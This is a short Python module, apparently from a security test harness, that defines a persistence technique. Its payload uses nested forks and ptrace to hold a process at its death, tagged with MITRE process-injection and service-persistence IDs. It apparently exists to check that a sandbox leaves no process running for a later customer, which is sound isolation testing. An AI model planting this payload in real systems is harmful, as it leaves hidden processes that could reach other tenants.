"""Leaves a tracer that holds its tracee at the moment of its death."""

from __future__ import annotations

from dayfly.lab.gauntlet.evidence import Alive
from dayfly.lab.gauntlet.payloads import LIVE
from dayfly.lab.gauntlet.technique import Technique

PLANT = (
    LIVE
    + """
import ctypes
libc = ctypes.CDLL(None)
if os.fork() == 0:
    child = os.fork()
    if child == 0:
        live()
    libc.ptrace(0x4206, child, 0, 0x40)
    live()
time.sleep(0.05)
"""
)

TECHNIQUE = Technique(
    level="L3",
    attack=("T1055.008", "T1543"),
    family="M10",
    must_fail_to="run while a later customer is served",
    plant=PLANT,
    evidence=Alive(),
    ends_window=True,
    needs_more_than_lambda=True,
    finding="residue.process",
)
